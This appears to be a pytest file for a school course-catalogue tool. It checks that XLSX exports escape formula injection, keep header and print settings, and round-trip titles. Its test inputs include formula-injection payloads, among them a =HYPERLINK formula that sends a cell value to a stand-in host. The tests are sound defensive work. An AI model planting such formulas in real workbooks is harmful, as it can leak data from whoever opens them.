"""Every XLSX kehou writes goes through catalog._xlsx: a catalogue title like `=HYPERLINK(…)`
stays text in the workbook (no cell is ever a formula), headers are frozen and repeated on
printed pages, columns are sized, pages are landscape A4; export → import keeps the text."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from catalog import (
    Course,
    Domain,
    GradeRange,
    Kind,
    Settings,
    add_table,
    export_records,
    load_file,
    xlsx_bytes,
    xlsx_value,
)

#: What a hostile or careless catalogue title can start with: = + - @ tab CR.
DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes) -> list[Any]:
    """Every cell of every sheet of a workbook."""
    book = load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def assert_no_formulas(data: bytes) -> None:
    for cell in _cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
            raise AssertionError(f"unescaped {cell.coordinate}: {cell.value!r}")


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_becomes_escaped_text(text: str) -> None:
    value = xlsx_value(text)
    assert value == "'" + text
    assert xlsx_value(-3) == -3 and xlsx_value(2.5) == 2.5  # numbers stay numbers
    assert xlsx_value(None) == "" and xlsx_value(True) == "是"


def _book() -> bytes:
    wb = Workbook()
    wb.remove(wb.active)
    add_table(wb, "推荐项目", ["编号", "名称", "金额"], [["C1", t, 1234.5] for t in DANGEROUS])
    return xlsx_bytes(wb)


def test_add_table_escapes_and_sets_up_the_sheet_for_reading_and_printing() -> None:
    data = _book()
    assert_no_formulas(data)
    ws = load_workbook(io.BytesIO(data))["推荐项目"]
    assert [c.value for c in ws[1]] == ["编号", "名称", "金额"]
    assert ws["A1"].font.b and ws.freeze_panes == "A2"
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
    assert ws.column_dimensions["B"].width > ws.column_dimensions["A"].width  # sized to text
    assert ws["C2"].value == 1234.5 and "#,##0" in ws["C2"].number_format
    assert _book() == data  # same bytes every time


def test_catalogue_export_keeps_hostile_titles_as_text_and_round_trips(tmp_path: Path) -> None:
    courses = [
        Course(
            id=f"C{n}", title=title, description="陶艺课，动手捏泥巴", domains=[Domain("劳")],
            grades=GradeRange(lo=1, hi=6), fee_per_session=0.0, session_minutes=45, capacity=30,
        )
        for n, title in enumerate(DANGEROUS[:4])  # tab/CR are trimmed by the importer
    ]  # fmt: skip
    path = tmp_path / "courses.xlsx"
    export_records(courses, Kind.COURSE, path)
    data = path.read_bytes()
    assert_no_formulas(data)
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert ws.freeze_panes == "A2"
    back = load_file(path, settings=Settings(hmac_secret="s"))
    assert back.problems == [] and [r.title for r in back.records] == DANGEROUS[:4]


def test_reports_escape_titles_from_the_catalogue() -> None:
    """The school and bureau workbooks, built from a programme whose item and resource titles
    are formulas: every cell is text or a number, and the headers are Chinese."""
    from api.reports import school_xlsx, summary_xlsx

    hostile = DANGEROUS[0]
    doc = {
        "items": [{"id": "C1", "title": hostile, "domains": ["美"], "staff": "=1+1",
                   "score": 0.8, "reasons": ["匹配兴趣“陶瓷”", "检索来源：语义检索"]}],
        "timetable": [{"slot": "周二下午", "title": hostile, "domain": "美", "sections": 1,
                       "expected_students": 30, "fee_per_session": 2.0, "staff": "@x"}],
        "cost": {"weeks": 16, "participants": 30, "fee_income": 1234567.891, "staff_share": 0.85},
        "excluded": [{"id": "C9", "title": hostile, "rule": "ACADEMIC", "reason": "学科类"}],
    }  # fmt: skip
    data = school_xlsx(doc)
    assert_no_formulas(data)
    texts = [c.value for c in _cells(data) if isinstance(c.value, str)]
    assert "匹配度" in texts and "学科类内容" in texts and "ACADEMIC" not in texts
    assert not any("检索来源" in t for t in texts)
    row = {
        "district": "天元区",
        "schools": 1,
        "students": 900,
        "signatures": hostile,
        "participants": 30,
        "fee_income": 1.0,
        "exempt_waiver": 0.0,
        "subsidy_needed": 2.0,
        "activities": 1,
        "per_1000": 1.11,
        "served": 1.0,
        "area": "城区",
        "id": "S1",
        "name": hostile,
        "signature": hostile,
        "item_count": 1,
        "cost_per_student": 3.0,
    }
    summary = {"districts": [row], "areas": [row], "schools": [row], "coverage": 1.0,
               "allocation": {"status": "optimal"}, "fairness": {"served_share": 1.0},
               "given": [{"resource": hostile, "resource_id": "SR1", "school": hostile,
                          "school_id": "S1", "district": "天元区", "days": "周二"}]}  # fmt: skip
    data = summary_xlsx(summary)
    assert_no_formulas(data)
    texts = [c.value for c in _cells(data) if isinstance(c.value, str)]
    assert "最优" in texts and "每千名学生活动数" in texts
    assert not {"district", "fee_income", "participants", "optimal"} & set(texts)
